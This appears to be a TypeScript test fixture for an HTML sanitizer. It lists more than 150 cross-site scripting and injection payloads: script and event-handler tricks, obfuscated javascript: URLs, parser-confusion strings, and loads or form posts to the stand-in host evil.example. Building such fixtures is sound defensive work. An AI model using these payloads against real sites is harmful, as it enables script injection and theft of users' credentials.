/** Attacks with a structure of their own. */
const writtenAttacks = [
  '<script>attack()</script>',
  '<ScRiPt src="https://evil.example/x.js"></ScRiPt>',
  '<img src="x" onerror="attack()">',
  '<img src=x onerror=attack()//',
  '<img src="/a.png" onload=attack()>',
  '<svg onload="attack()"><script>attack()</script></svg>',
  '<svg><animate onbegin=attack() attributeName=x dur=1s></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attack()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=attack()>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>attack()</script>"></iframe>',
  '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
  '<a href="JaVaScRiPt&colon;attack()">x</a>',
  '<a href="java&#x09;script:attack()">x</a>',
  '<a href=" &#14; javascript:attack()">x</a>',
  '<a href="data:text/html,<script>attack()</script>">x</a>',
  '<p style="background:url(https://evil.example/)">x</p>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name="password"><button>x</button></form>',
  '<button formaction="javascript:attack()">x</button>',
  '<video src="https://evil.example/x" onerror="attack()"><source onerror="attack()"></video>',
  '<details open ontoggle="attack()">x</details>',
  '<body onload="attack()"><p onclick="attack()">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=attack()>"></noscript>',
  '<template><script>attack()</script></template>',
  '<textarea><script>attack()</script></textarea>',
  '<xmp><img src=x onerror=attack()></xmp>',
  '<p id="__proto__" name="location">x</p>',
  '<input onfocus=attack() autofocus>',
  '<a href="https://site.example/" target="_blank" ping="https://evil.example/">x</a>',
  '<!--><img src=x onerror=attack()>-->',
  '<div><![CDATA[<img src=x onerror=attack()>]]></div>',
  '<svg><style><img title="</style><img src=x onerror=attack()>"></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=attack()>">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=attack()></annotation-xml></math>',
  '<svg><foreignObject><iframe srcdoc="<script>attack()</script>"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=attack()></svg>#x"></use></svg>',
  '<table><tr><td background="https://evil.example/">x</td></tr></table>',
  '<p style="width:expression(attack())">x</p>',
  '<p style="behavior:url(https://evil.example/x.htc)">x</p>',
  '<div style="position:fixed;inset:0;z-index:9999"><form action="https://evil.example/"></form></div>',
  '<img srcset="https://evil.example/a.png 1x">',
  '<picture><source srcset="https://evil.example/a.png"><img></picture>',
  '<video poster="https://evil.example/a.png"></video>',
  '<input type="image" src="https://evil.example/a.png" formaction="javascript:attack()">',
  '<isindex action="javascript:attack()" type="image">',
  '<frameset><frame src="javascript:attack()"></frameset>',
  '<applet code="attack.class"></applet>',
  '<portal src="https://evil.example/"></portal>',
  '<link rel="import" href="https://evil.example/">',
  '<link rel="prefetch" href="https://evil.example/"><link rel="dns-prefetch" href="//evil.example">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *"><script>attack()</script>',
  '<script type="module">import "https://evil.example/x.js"</script>',
  '<script type="importmap">{"imports":{"react":"https://evil.example/x.js"}}</script>',
  '<template shadowrootmode="open"><script>attack()</script></template>',
  '<form id="x"><input name="attributes"><input name="parentNode"></form>',
  '<p class="root" id="root" data-slot="dialog">x</p>',
  '<scr<script>ipt>attack()</scr</script>ipt>',
  '<<img src=x onerror=attack()>>',
  '<img """><script>attack()</script>">',
  '<img/src=x/onerror=attack()>',
  '<img src=x\nonerror\n=\nattack()>',
] as const

/** Handlers that wait for the reader. */
const readerEvents = [
  'onclick',
  'ondblclick',
  'onauxclick',
  'oncontextmenu',
  'onmouseover',
  'onmouseenter',
  'onpointerdown',
  'onpointerover',
  'onfocus',
  'onfocusin',
  'onblur',
  'onkeydown',
  'onwheel',
  'onscroll',
  'oncopy',
  'onpaste',
  'ondragstart',
  'onbeforeinput',
  'ontouchstart',
  'onanimationstart',
  'ontransitionend',
  'onbeforematch',
  'onkeyup',
  'onpointerup',
  'ondrop',
] as const

/** Elements whose handler runs by itself. */
const selfRunning = [
  'video src=x onerror',
  'audio src=x onerror',
  'image src=x onerror',
  'object data=x onerror',
  'embed src=x onerror',
  'link rel=stylesheet href=x onerror',
  'script src=x onerror',
  'style onload',
  'iframe onload',
  'frameset onload',
  'body onpageshow',
  'body onhashchange',
  'marquee onstart',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'button autofocus onfocus',
  'a href=# autofocus onfocus',
  'x-card tabindex=0 autofocus onfocus',
  'dialog open onbeforetoggle',
  'svg><set onbegin',
  'svg><image href=x onerror',
] as const

/** Addresses that are script, as browsers read them. */
const scriptUrls = [
  'javascript:attack()',
  'JAVASCRIPT:attack()',
  'java	script:attack()',
  'java\nscript:attack()',
  'javascript:attack()',
  'javascript&#58;attack()',
  '&#x6A;avascript:attack()',
  'javascript://%0aattack()',
  'jav&#x0A;ascript:attack()',
  'vbscript:attack()',
  'data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=attack()>',
  'view-source:javascript:attack()',
] as const

/**
 * HTML that tries to execute script, to load from elsewhere, to send data or to take over the page where it is inserted:
 * 150 and more. Each calls `attack()` or names `evil.example` if it succeeds.
 */
export const htmlAttacks: readonly string[] = [
  ...writtenAttacks,
  ...readerEvents.map((event) => `<p ${event}="attack()" tabindex="0" contenteditable>x</p>`),
  ...selfRunning.map((start) => `<${start}="attack()">x`),
  ...scriptUrls.flatMap((url) => [
    `<a href="${url}">x</a>`,
    `<img src="${url}" alt="x">`,
    `<svg><a xlink:href="${url}"><text>x</text></a></svg>`,
  ]),
]

/** Pictures of other hosts, which would see who reads: no server stores them, and the policy of pages blocks them. */
export const foreignPictures: readonly string[] = [
  '<img src="https://evil.example/a.png">',
  '<img src="//evil.example/a.png">',
  '<img src="/\\evil.example/a.png">',
]

/** Closes whatever an attack has left open, so that the next one in the same text starts anew. */
const closing =
  '--></script></style></textarea></title></noscript></xmp></iframe></template></select></svg></math></form></table></p>'

/** Returns a text with attacks and, after each, a paragraph that only shows if the attack has not swallowed it. */
export function joinAttacks(attacks: readonly string[]): string {
  return attacks.map((attack, index) => `${attack}"'>${closing}<p>Text ${index + 1}</p>`).join('')
}
